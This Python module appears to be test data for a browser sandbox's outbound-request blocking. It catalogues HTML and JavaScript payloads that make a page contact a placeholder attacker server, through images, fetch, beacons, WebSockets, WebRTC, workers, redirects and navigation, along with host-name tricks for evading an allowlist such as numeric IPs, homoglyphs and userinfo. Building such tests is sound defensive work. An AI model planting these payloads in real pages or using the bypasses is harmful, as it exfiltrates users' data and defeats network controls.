"""All the ways in which a page can make a browser send something to another address.

In what a page holds, `$url` is an address of the attacker's server, each way with a path of its
own; `$host` that server without a scheme, `$port` its port, `$tcp` and `$udp` a port of the
attacker's that takes connections or packets.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Way:
    """One way out.

    Args:
        name: what it is called in the table.
        html: what the attacker has put on a page of the allowed site.
        alone: whether the page is left by it, so that it needs one of its own.
        headers: what the allowed site sends with that page; it is framed where it is not alone.
        by: what shows that it was reached: "http", "tcp", "udp", "tcp6", "dns", or "tab" for a tab
            that shows what it should not.
        reaches: whether it is reached where nothing holds it back; else Chromium itself does.
        noted: whether Playwright tells of it, so that the block is in the log.
    """

    name: str
    html: str
    alone: bool = False
    headers: Mapping[str, str] = field(default_factory=dict[str, str])
    by: str = "http"
    reaches: bool = True
    noted: bool = True

    @property
    def path(self) -> str:
        """Its own path on the attacker's server, without the slash."""
        return "".join(c if c.isalnum() else "-" for c in self.name.lower())


def script(code: str) -> str:
    """A script of its own: what it throws harms no other."""
    return f"<script>{{{code}}}</script>"


def worker(code: str) -> str:
    """A worker that runs some code."""
    return script(f"new Worker(URL.createObjectURL(new Blob([`{code}`])))")


def click(element: str) -> str:
    """An element that a script of the page clicks."""
    return f"{element}<script>document.currentScript.previousElementSibling.click()</script>"


def sent(form: str) -> str:
    """A form that a script of the page sends."""
    return f"{form}<script>document.currentScript.previousElementSibling.submit()</script>"


def image(url: str) -> str:
    """A picture from an address."""
    return f"<img src='{url}'>"


RTC = """
const peer = new RTCPeerConnection({iceServers: [{urls: "%s", username: "a", credential: "b"}]});
peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer));
"""
PARTS = [
    Way("picture", image("$url")),
    Way("CSS url()", "<div style='height: 9px; background: url($url)'></div>"),
    Way("stylesheet", "<link rel=stylesheet href=$url>"),
    Way("CSS @import", "<style>@import '$url';</style>"),
    Way(
        "font", "<style>@font-face {font-family: q; src: url($url)}</style><p style='font: 9px q'>x"
    ),
    Way("script", "<script src=$url></script>"),
    Way("module import()", script("import('$url').catch(() => 0)")),
    Way("video", "<video src=$url preload=auto></video>"),
    Way("iframe", "<iframe src=$url></iframe>"),
    Way("object", "<object data=$url></object>"),
    Way("embed", "<embed src=$url>"),
    Way("SVG image", "<svg><image href=$url width=9 height=9 /></svg>"),
    Way("frame from text (srcdoc)", '<iframe srcdoc="<img src=$url>"></iframe>'),
    Way("data: frame", "<iframe src='data:text/html,<img src=$url>'></iframe>"),
    Way("javascript: frame", """<iframe src='javascript:void(new Image().src="$url")'></iframe>"""),
    Way("base address", "<iframe srcdoc='<base href=$url><img src=$path?x>'></iframe>"),
    Way("fetch", script("fetch('$url').catch(() => 0)")),
    Way("fetch, keepalive", script("fetch('$url', {keepalive: true, mode: 'no-cors'})")),
    Way(
        "XMLHttpRequest", script("const x = new XMLHttpRequest(); x.open('POST', '$url'); x.send()")
    ),
    Way("beacon", script("navigator.sendBeacon('$url', 'x')")),
    Way("link with ping", click("<a ping=$url href=#x>x</a>")),
    Way("EventSource", script("new EventSource('$url')")),
    Way("WebSocket", script("new WebSocket('ws://$host/$path')")),
    Way("worker, fetch", worker("fetch('$url').catch(() => 0)")),
    Way("worker, importScripts", worker("importScripts('$url')")),
    Way("worker, WebSocket", worker("new WebSocket('ws://$host/$path')")),
    Way("shared worker, fetch", script("new SharedWorker('/shared.js#$url')"), noted=False),
    Way("service worker, fetch", script("navigator.serviceWorker.register('/service.js?$url')")),
    Way("302 of a picture", image("/to?$url")),
    Way("302 of a fetch", script("fetch('/to?$url', {mode: 'no-cors'})")),
    Way("prefetch", "<link rel=prefetch href=$url>"),
    Way("preload", "<link rel=preload as=image href=$url>"),
    Way("modulepreload", "<link rel=modulepreload href=$url>"),
    Way(
        "speculation rules",
        "<script type=speculationrules>"
        '{"prefetch": [{"source": "list", "urls": ["$url"]}]}</script>',
        noted=False,
    ),
    Way("preconnect", "<link rel=preconnect href=http://127.0.0.1:$tcp>", by="tcp", reaches=False),
    Way("DNS prefetch", "<link rel=dns-prefetch href=//$path.test>", by="dns", reaches=False),
    Way("Link header", "x", headers={"link": "<$url>; rel=preload; as=image"}),
    Way(
        "CSP report-uri",
        image("/x"),
        headers={"content-security-policy": "img-src 'none'; report-uri $url"},
    ),
    Way(
        "Reporting-Endpoints",
        image("/x"),
        headers={
            "reporting-endpoints": 'e="$url"',
            "content-security-policy": "img-src 'none'; report-to e",
        },
        reaches=False,
    ),
    Way("Alt-Svc header", image("/x"), headers={"alt-svc": 'h2="127.0.0.1:$port"'}, reaches=False),
    Way("WebRTC, STUN", script(RTC % "stun:127.0.0.1:$udp"), by="udp", noted=False),
    Way("WebRTC, TURN", script(RTC % "turn:127.0.0.1:$udp"), by="udp", noted=False),
    Way(
        "WebRTC, TURN on TCP",
        script(RTC % "turn:127.0.0.1:$tcp?transport=tcp"),
        by="tcp",
        noted=False,
    ),
    Way("WebTransport", script("new WebTransport('https://127.0.0.1:$udp/$path')"), by="udp"),
    Way("window.open", script("open('$url')")),
    Way("link, new tab", click("<a href=$url target=_blank>x</a>")),
    Way("form, new tab", sent("<form action=$url method=post target=_blank></form>")),
]
"""Those that can be on one page."""

NAMES = [
    Way("upper case", image("http://EVIL.LOCALHOST:$port/$path")),
    Way("dot at the end", image("http://ok.localhost.:$port/$path")),
    Way("look-alike in Cyrillic", image("http://оk.localhost:$port/$path")),
    Way("look-alike in punycode", image("http://xn--k-emb.localhost:$port/$path")),
    Way("allowed name inside another", image("http://evilok.localhost:$port/$path")),
    Way("allowed name before another", image("http://ok.localhost.evil.localhost:$port/$path")),
    Way("below an allowed host", image("http://www.ok.localhost:$port/$path")),
    Way("the host of a wildcard itself", image("http://wild.localhost:$port/$path")),
    Way("a wildcard without its dot", image("http://evilwild.localhost:$port/$path")),
    Way("other port of the allowed host", image("http://127.0.0.1:$port/$path")),
    Way("number, decimal", image("http://2130706433:$port/$path")),
    Way("number, hexadecimal", image("http://0x7f.0.0.1:$port/$path")),
    Way("number, octal", image("http://0177.0.0.1:$port/$path")),
    Way("number, short", image("http://127.1:$port/$path")),
    Way("IPv6", image("http://[::1]:$tcp6/$path"), by="tcp6"),
    Way("IPv6 of an IPv4 address", image("http://[::ffff:127.0.0.1]:$port/$path")),
]
"""Names of the attacker's server, beside an allowed `ok.localhost:$port` and `*.wild.localhost`."""

GOING = [
    Way("location =", script("location = '$url'"), alone=True),
    Way("form, POST", sent("<form action=$url method=post></form>"), alone=True),
    Way("form, GET", sent("<form action=$url></form>"), alone=True),
    Way("meta refresh", "<meta http-equiv=refresh content='0; url=$url'>", alone=True),
    Way("Refresh header", "x", alone=True, headers={"refresh": "0; url=$url"}),
    Way("302 of a page", script("location = '/to?$url'"), alone=True),
    Way("307 of a form", sent("<form action='/to?$url' method=post></form>"), alone=True),
    Way("link with download", click("<a href=$url download>x</a>"), alone=True),
    Way("file from another host", script("location = '$url'"), alone=True),
    Way(
        "user name before @",
        script("location = 'http://ok.localhost:$port@$host/$path'"),
        alone=True,
    ),
    Way("backslashes", script(r"location = 'http:\\\\$host\\@ok.localhost/..\\$path'"), alone=True),
    Way(
        "blob: page",
        script("location = URL.createObjectURL(new Blob(['<img src=$url>'], {type: 'text/html'}))"),
        alone=True,
    ),
    Way(
        "javascript: address",
        script("location = 'javascript:void(new Image().src=`$url`)'"),
        alone=True,
    ),
    Way(
        "history.pushState",
        script("history.pushState(0, '', '$url'); location.reload()"),
        alone=True,
        reaches=False,
    ),
    Way("data: page", script("location = 'data:text/html,x'"), True, by="tab", reaches=False),
    Way("file: page", script("location = 'file:///'"), True, by="tab", reaches=False),
    Way(
        "view-source: page", script("location = 'view-source:$url'"), True, by="tab", reaches=False
    ),
    Way("chrome: page", script("location = 'chrome://version'"), True, by="tab", reaches=False),
]
"""Those that leave the page."""

OPENED = {
    "open http:": "$url",
    "open http:, user name before @": "http://ok.localhost:$port@$host/$path",
    "open http:, number": "http://2130706433:$port/$path",
    "open data:": "data:text/html,x",
    "open javascript:": "javascript:document.title",
    "open file:": "file:///",
    "open view-source:": "view-source:$own",
    "open chrome:": "chrome://version",
}
"""Addresses that a model opens: name and address."""

BY_ITSELF = {"open javascript:"}
"""Those of them that Chromium does not open."""

TWINS = [
    Way("its own site", image("$own/$path")),
    Way("an allowed host, upper case", image("http://OK.LOCALHOST:$port/$path")),
    Way("an allowed wildcard", image("http://a.wild.localhost:$port/$path")),
    Way("an allowed WebSocket", script("new WebSocket('ws://ok.localhost:$port/$path')")),
    Way("an allowed redirect", image("/to?http://ok.localhost:$port/$path")),
    Way("an allowed worker", worker("fetch('http://ok.localhost:$port/$path', {mode: 'no-cors'})")),
]
"""What must be reached in any case."""
